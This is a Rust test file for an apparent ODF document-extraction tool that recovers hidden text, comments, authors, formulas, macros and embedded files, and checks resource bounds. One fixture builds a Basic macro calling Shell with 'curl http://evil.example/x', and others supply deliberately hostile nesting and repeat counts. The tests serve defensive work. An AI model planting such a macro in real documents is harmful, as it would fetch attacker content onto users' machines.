use std::io::{Cursor, Write as _};

use noroshi_base::{DocumentKind, NoticeCode};
use noroshi_intake::Media;
use zip::write::SimpleFileOptions;

use crate::Role;
use crate::emit::tests::{hear, torture};
use crate::ole::tests::fixture;

fn package(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    zip.start_file("mimetype", stored).unwrap();
    zip.write_all(b"application/vnd.oasis.opendocument.text").unwrap();
    for (name, text) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[test]
fn a_text_of_a_real_writer_gives_everything_it_holds() {
    let bytes = fixture("real.odt");
    assert_eq!(noroshi_intake::sniff("unknown", &bytes), Media::Odf);
    let heard = hear("a.odt", Media::Odf, &bytes);
    let body = heard.part("body").concat();
    assert!(
        body.contains("蒼海電機のサーバ AEC-DB01 と evil[.]example の通信を確認した。\nThe implant"),
        "{body}"
    );
    assert!(body.contains("種別\t値\t\nC2\t192.0.2.9") && !body.contains("隠し文"), "{body}");
    assert_eq!(heard.part("hidden or deleted"), ["消した文 AEC-FS02\n隠し文 aomi-denki.co.jp"]);
    assert_eq!(heard.part("comments"), ["社内の田中さんに確認\n"]);
    assert_eq!(heard.part("author"), ["鈴木一郎", "田中次郎"]);
    assert_eq!(heard.part("styles headers and footers"), ["社外秘 蒼海電機\n担当 山田\n"]);
    assert_eq!(heard.part("property initial-creator"), ["山田太郎"]);
    assert_eq!(heard.part("property creator"), ["佐藤花子"]);
    assert!(heard.notices.is_empty());
}

#[test]
fn sheets_and_shows_of_a_real_writer_are_read() {
    let heard = hear("a.ods", Media::Odf, &fixture("real.ods"));
    assert_eq!(heard.heads[0].kind, DocumentKind::Table);
    let cells = heard.part("sheet 名簿!A1:D6").concat();
    assert!(cells.contains("AEC-DB01\t198.51.100.7\t2026-01-06 10:30:15\t1.5\n"), "{cells}");
    assert_eq!(heard.part("sheet 名簿 hidden rows and columns"), ["A4: 隠し行 AEC-FS02\nH5: 隠し列\n"]);
    assert!(heard.part("sheet 名簿 formulas")[0].contains("A3 =HYPERLINK(\"http://f.example/\""));
    assert_eq!(heard.part("sheet 奥 (hidden)!A1:A1"), ["極秘 aomi-denki.co.jp"]);
    assert_eq!(heard.part("comments"), ["社内サーバ\n"]);
    assert_eq!(heard.part("links"), ["http://aec-portal.example/x\n"]);
    let heard = hear("a.odp", Media::Odf, &fixture("real.odp"));
    assert_eq!(heard.part("slide 1"), ["蒼海電機 事案\nevil[.]example\n198.51.100.7\n"]);
    assert!(heard.part("notes of slide 1")[0].contains("社内ノート AEC-DB01"));
}

#[test]
fn macros_embedded_files_and_locks_are_seen() {
    let bytes = package(&[
        (
            "content.xml",
            "<office:document-content><office:body><text:p>a<text:tab/>b<text:s text:c=\"2\"/>c<text:line-break/>d</text:p><office:binary-data>TVog c3Rh\ncnQ=</office:binary-data></office:body></office:document-content>",
        ),
        (
            "Basic/Standard/Module1.xml",
            "<script:module script:name=\"Module1\">Shell(&quot;curl http://evil.example/x&quot;)</script:module>",
        ),
        ("Object 1/content.xml", "<a><text:p>inner 蒼海</text:p></a>"),
        ("Pictures/a.png", "png"),
        ("META-INF/manifest.xml", "<manifest:encryption-data/>"),
    ]);
    let heard = hear("a.odt", Media::Odf, &bytes);
    assert_eq!(heard.part("body"), ["a\tb  c\nd\n"]);
    assert_eq!(heard.part("Object 1 body"), ["inner 蒼海\n"]);
    assert!(
        heard.passages.iter().any(|p| p.role == Role::Code && p.text.contains("curl http://evil.example/x"))
    );
    let children: Vec<&[u8]> = heard.children.iter().map(|child| child.1.as_slice()).collect();
    assert!(children.contains(&&b"MZ start"[..]) && children.contains(&&b"png"[..]), "{children:?}");
    assert_eq!(heard.notices[0].code, NoticeCode::Encrypted);
}

#[test]
fn hostile_documents_are_bounded() {
    for name in ["real.odt", "real.ods", "real.odp"] {
        torture(name, Media::Odf, &fixture(name));
    }
    let wide = "<table:table><table:table-row table:number-rows-repeated=\"4294967295\"><table:table-cell table:number-columns-repeated=\"4294967295\"><text:p>x</text:p></table:table-cell></table:table-row></table:table>".repeat(50);
    let bytes = package(&[("content.xml", &format!("<office:spreadsheet>{wide}"))]);
    let heard = hear("a.ods", Media::Odf, &bytes);
    assert!(heard.all().len() < 1 << 20);
    let deep = package(&[("content.xml", &format!("{}deep", "<text:span>".repeat(200_000)))]);
    assert!(hear("a.odt", Media::Odf, &deep).all().contains("deep"));
}
